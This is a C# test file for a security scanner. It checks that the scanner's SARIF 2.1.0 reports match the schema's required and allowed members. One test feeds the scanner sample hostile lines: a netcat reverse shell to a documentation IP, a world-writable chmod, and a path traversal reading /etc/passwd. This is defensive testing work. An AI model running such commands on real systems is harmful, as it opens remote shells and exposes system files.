using System.Text.Json;

namespace Symbiont.Scanning.Tests.Reports;

/// <summary>What the schema of SARIF 2.1.0 asks of the objects that are written: members that must be there, no others than may be, values of their kind.</summary>
public sealed class SarifTests
{
    private static readonly Dictionary<string, (string[] Required, string[] Allowed)> Objects = new()
    {
        ["log"] = (["version", "runs"], ["$schema"]),
        ["run"] = (["tool"], ["results", "columnKind", "invocations", "artifacts"]),
        ["tool"] = (["driver"], ["extensions", "properties"]),
        ["driver"] = (["name"], ["version", "rules", "informationUri", "semanticVersion"]),
        ["rule"] = (["id"], ["name", "shortDescription", "fullDescription", "help", "helpUri", "defaultConfiguration", "properties"]),
        ["configuration"] = ([], ["level", "enabled", "rank"]),
        ["text"] = (["text"], ["markdown"]),
        ["result"] = (["message"], ["ruleId", "ruleIndex", "level", "locations", "partialFingerprints", "suppressions", "properties"]),
        ["location"] = ([], ["physicalLocation"]),
        ["physicalLocation"] = ([], ["artifactLocation", "region"]),
        ["artifactLocation"] = (["uri"], ["uriBaseId"]),
        ["region"] = ([], ["startLine", "snippet"]),
        ["suppression"] = (["kind"], ["justification", "status"]),
    };

    [Fact]
    public void The_log_has_the_structure_that_the_schema_asks_for()
    {
        var scanner = new SkillScanner();
        var found = scanner.ScanText("nc -e /bin/sh 203.0.113.9 1\nchmod 777 x\ncat ../../../etc/passwd\n", "a b/ä.sh");
        var result = new Baseline([new(found.Findings[^1].Fingerprint, "known")]).Apply(found);

        using var log = Log(result, scanner);
        Check("log", log.RootElement);
        Assert.Equal("2.1.0", log.RootElement.GetProperty("version").GetString());
        var run = Assert.Single(log.RootElement.GetProperty("runs").EnumerateArray());
        Check("run", run);
        Check("tool", run.GetProperty("tool"));
        var driver = run.GetProperty("tool").GetProperty("driver");
        Check("driver", driver);
        Assert.Contains(run.GetProperty("columnKind").GetString(), new[] { "utf16CodeUnits", "unicodeCodePoints" });
        var rules = driver.GetProperty("rules").EnumerateArray().ToList();
        Assert.All(rules, Rule);
        Assert.Equal(rules.Count, rules.Select(rule => rule.GetProperty("id").GetString()).Distinct().Count());
        var results = run.GetProperty("results").EnumerateArray().ToList();
        Assert.Equal(found.Findings.Count, results.Count);
        Assert.All(results, one => Result(one, rules));
        Assert.Single(results, one => one.TryGetProperty("suppressions", out _));
    }

    [Fact]
    public void A_clean_scan_is_a_log_without_results()
    {
        var scanner = new SkillScanner();
        using var log = Log(scanner.ScanText("hello", "a.md"), scanner);

        Assert.Equal(0, log.RootElement.GetProperty("runs")[0].GetProperty("results").GetArrayLength());
    }

    private static JsonDocument Log(ScanResult result, SkillScanner scanner)
    {
        using var output = new StringWriter();
        SarifReport.Write(result, scanner.Rules, "1.2.3", output);
        return JsonDocument.Parse(output.ToString());
    }

    private static void Rule(JsonElement rule)
    {
        Check("rule", rule);
        foreach (var name in new[] { "shortDescription", "fullDescription", "help" })
            Check("text", rule.GetProperty(name));
        Check("configuration", rule.GetProperty("defaultConfiguration"));
        Level(rule.GetProperty("defaultConfiguration"));
        var tags = rule.GetProperty("properties").GetProperty("tags").EnumerateArray().Select(tag => tag.GetString()).ToList();
        Assert.Equal(tags.Count, tags.Distinct().Count());
    }

    private static void Result(JsonElement result, List<JsonElement> rules)
    {
        Check("result", result);
        Check("text", result.GetProperty("message"));
        Level(result);
        Assert.Equal(result.GetProperty("ruleId").GetString(), rules[result.GetProperty("ruleIndex").GetInt32()].GetProperty("id").GetString());
        foreach (var location in result.GetProperty("locations").EnumerateArray())
        {
            Check("location", location);
            var physical = location.GetProperty("physicalLocation");
            Check("physicalLocation", physical);
            Check("artifactLocation", physical.GetProperty("artifactLocation"));
            Assert.True(Uri.IsWellFormedUriString(physical.GetProperty("artifactLocation").GetProperty("uri").GetString(), UriKind.Relative));
            Check("region", physical.GetProperty("region"));
            Check("text", physical.GetProperty("region").GetProperty("snippet"));
            Assert.True(physical.GetProperty("region").GetProperty("startLine").GetInt32() >= 1);
        }

        Assert.All(result.GetProperty("partialFingerprints").EnumerateObject(), one => Assert.Equal(JsonValueKind.String, one.Value.ValueKind));
        if (!result.TryGetProperty("suppressions", out var suppressions))
            return;
        Assert.All(suppressions.EnumerateArray(), suppression =>
        {
            Check("suppression", suppression);
            Assert.Contains(suppression.GetProperty("kind").GetString(), new[] { "inSource", "external" });
        });
    }

    private static void Level(JsonElement element) => Assert.Contains(element.GetProperty("level").GetString(), new[] { "none", "note", "warning", "error" });

    private static void Check(string kind, JsonElement element)
    {
        var (required, allowed) = Objects[kind];
        var names = element.EnumerateObject().Select(member => member.Name).ToList();
        Assert.Subset(names.ToHashSet(), required.ToHashSet());
        Assert.Subset(required.Concat(allowed).ToHashSet(), names.ToHashSet());
    }
}
